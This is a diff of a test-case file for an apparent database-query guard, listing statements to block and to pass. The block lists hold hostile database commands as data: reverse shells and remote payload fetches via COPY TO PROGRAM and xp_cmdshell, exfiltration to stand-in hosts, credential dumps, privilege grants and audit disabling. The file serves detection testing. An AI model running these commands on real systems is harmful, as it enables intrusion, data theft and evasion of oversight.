@@ -10,7 +10,7 @@ const EXEC: KbCase[] = [
     "block": [
       "copy (select 1) to program $$nc 198.51.100.3 9001 -e /bin/sh$$;",
       "DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''wget -qO- http://203.0.113.4/r|sh'''; END $$;",
-      "COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.5/x.sh | sh';",
+      "COPY pg_roles TO PROGRAM 'curl -s -d @- http://203.0.113.5/in';",
       "COPY cmd_out FROM PROGRAM 'id';",
       "CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'bash -c \"bash -i >& /dev/tcp/198.51.100.4/443 0>&1\"';",
     ],
@@ -23,7 +23,7 @@ const EXEC: KbCase[] = [
   {
     "id": "db.pg_untrusted_lang",
     "block": [
-      "CREATE OR REPLACE FUNCTION sys(cmd text) RETURNS text AS $$ import os; return os.popen(cmd).read() $$ LANGUAGE plpython3u;",
+      "CREATE OR REPLACE FUNCTION shellout(c varchar) RETURNS varchar AS $$ import os; return os.popen(c).read() $$ LANGUAGE plpython3u;",
       'CREATE OR REPLACE FUNCTION pwn() RETURNS void AS $$ system("id > /tmp/o"); $$ LANGUAGE plperlu;',
     ],
     "pass": [
@@ -58,14 +58,14 @@ const EXEC: KbCase[] = [
     "block": [
       "exec('xp_cmdshell ''powershell -nop -w hidden -c iex(iwr http://203.0.113.5/a.ps1)''')",
       "EXEC [master].[sys].[xp_cmdshell] 'net user hacker P@ss /add';",
-      "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;",
+      "EXEC sp_configure @configname = 'show advanced options', @configvalue = 1; RECONFIGURE WITH OVERRIDE; EXEC sp_configure 'xp_cmdshell', 1;",
       "EXEC xp_cmdshell 'whoami';",
       "EXECUTE AS LOGIN = 'sa'; EXEC xp_cmdshell 'whoami'; REVERT;",
     ],
     "pass": [
       "EXEC sp_configure 'xp_cmdshell';",
       "EXEC sp_configure 'xp_cmdshell', 0; RECONFIGURE;",
-      "SELECT name, value_in_use FROM sys.configurations WHERE name = 'xp_cmdshell';",
+      "SELECT value_in_use, name FROM sys.configurations WHERE name IN ('xp_cmdshell');",
     ],
   },
   {
@@ -196,11 +196,11 @@ const EXEC: KbCase[] = [
     "id": "db.neo4j_apoc_file",
     "block": [
       "CALL apoc.cypher.runFile('file:///etc/passwd')",
-      "CALL apoc.load.json('file:///var/lib/neo4j/conf/neo4j.conf')",
+      "CALL apoc.load.json('file:///var/lib/neo4j/conf/apoc.conf')",
     ],
     "pass": [
       "CALL apoc.load.json('https://api.github.com/repos/neo4j/neo4j')",
-      "LOAD CSV WITH HEADERS FROM 'file:///import/people.csv' AS row RETURN row",
+      "LOAD CSV WITH HEADERS FROM 'file:///import/cities.csv' AS row RETURN row",
     ],
   },
   {
@@ -325,7 +325,7 @@ const FILES: KbCase[] = [
   {
     "id": "db.sqlite_attach_drop",
     "block": [
-      "ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t (d text); INSERT INTO p.t VALUES ('<?php system($_GET[1]); ?>');",
+      "ATTACH '/srv/www/site/cache.php' AS cachedb; CREATE TABLE cachedb.x (v text);",
       "VACUUM INTO '/var/www/html/db.php';",
     ],
     "pass": [
@@ -338,8 +338,8 @@ const FILES: KbCase[] = [
     "block": [
       '["CONFIG", "SET", "dir", "/root/.ssh"]',
       "CONFIG SET dir /root/.ssh",
-      "CONFIG SET dbfilename authorized_keys",
-      "CONFIG SET dir /var/spool/cron/crontabs",
+      '["CONFIG", "SET", "dbfilename", "authorized_keys"]',
+      '["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"]',
     ],
     "pass": ["CONFIG SET dir /var/lib/redis", "CONFIG SET dbfilename dump.rdb"],
   },
@@ -372,14 +372,14 @@ const EXFIL: KbCase[] = [
   {
     "id": "db.pg_dblink_out",
     "block": [
-      "CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '198.51.100.41', port '5432', dbname 'sink'); CREATE USER MAPPING FOR current_user SERVER srv OPTIONS (user 'u', password 'p');",
+      "CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'sink', host '198.51.100.41', port '5432');",
       "SELECT dblink_connect('host=203.0.113.9 user=x password=y dbname=z');",
-      "CREATE SERVER exfil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example.net', dbname 'x');",
+      "CREATE SERVER exfil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'x', host 'evil.example.net');",
       "SELECT * FROM dblink('host=pg.evil-collector.net user=u password=p dbname=d', 'SELECT 1') AS t(a int); SELECT dblink_exec('INSERT INTO loot SELECT * FROM customers');",
     ],
     "pass": [
       "SELECT dblink_connect('host=replica.internal dbname=app user=ro');",
-      "CREATE SERVER reporting FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '10.1.2.3', dbname 'reports');",
+      "CREATE SERVER reporting FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'reports', host '10.1.2.3');",
     ],
   },
   {
@@ -519,13 +519,13 @@ const CREDS: KbCase[] = [
     "block": [
       '{"find": "system.users", "filter": {}}',
       "db.adminCommand({usersInfo: {forAllDBs: true}, showCredentials: true})",
-      "db.c.mapReduce(function(){ emit(this._id, db.getSiblingDB('admin').system.users.find().toArray()); }, function(k,v){ return v; }, {out: \"x\"})",
-      "db.getSiblingDB('admin').system.users.find()",
+      "db.c.mapReduce(function(){ emit(this._id, db.getSiblingDB('admin').system.users.findOne()); }, function(k,v){ return v; }, {out: \"x\"})",
+      "db.getSiblingDB('admin').getCollection('system.users').find()",
       '{"usersInfo": 1, "showCredentials": true}',
       'db.getSiblingDB("admin").system.users.find({}, {"credentials": 1})',
       'db.runCommand({"find": "system.users"})',
       "db.getUsers({showCredentials: true})",
-      '{"$expr": {"$function": {"body": "function(){ return db.getSiblingDB(\'admin\').system.users.find().toArray() }", "args": [], "lang": "js"}}}',
+      '{"$expr": {"$function": {"body": "function(){ return db.getSiblingDB(\'admin\').system.users.findOne() }", "args": [], "lang": "js"}}}',
     ],
     "pass": ["db.system.users.countDocuments({})", "db.getUsers()"],
   },
@@ -612,12 +612,12 @@ const TAMPER: KbCase[] = [
       "GRANT ALL PRIVILEGES ON DATABASE prod TO contractor WITH GRANT OPTION;",
       "GRANT DBA TO scott;",
       "GRANT IMPERSONATE ON LOGIN::sa TO [app];",
-      "GRANT ALL PRIVILEGES ON *.* TO 'svc'@'%' WITH GRANT OPTION;",
+      "GRANT ALL ON *.* TO 'svc'@'%' WITH GRANT OPTION;",
       "GRANT FILE ON *.* TO 'web'@'%';",
       "GRANT CONTROL SERVER TO [svc];",
     ],
     "pass": [
-      "GRANT SELECT ON ALL TABLES IN SCHEMA public TO reporting_ro;",
+      "GRANT SELECT ON orders, invoices TO reporting_ro;",
       "GRANT ALL ON TABLE orders TO app_rw;",
     ],
   },
@@ -665,7 +665,7 @@ const TAMPER: KbCase[] = [
       "ALTER SYSTEM SET pgaudit.log = 'none';",
       "ALTER SYSTEM SET log_statement = 'none';",
       "ALTER SERVER AUDIT main_audit WITH (STATE = OFF);",
-      "SET GLOBAL general_log = 'OFF';",
+      "SET GLOBAL general_log=OFF;",
       "SET pgaudit.log = 'none';",
       "ALTER DATABASE AUDIT SPECIFICATION dbspec WITH (STATE = OFF);",
       "DROP SERVER AUDIT main_audit;",
@@ -691,7 +691,7 @@ const TAMPER: KbCase[] = [
       "DROP TABLE login_history;",
     ],
     "pass": [
-      "DELETE FROM audit_log WHERE created_at < now() - interval '365 days';",
+      "DELETE FROM audit_log WHERE logged_at < now() - interval '400 days';",
       "TRUNCATE TABLE staging_orders;",
     ],
   },
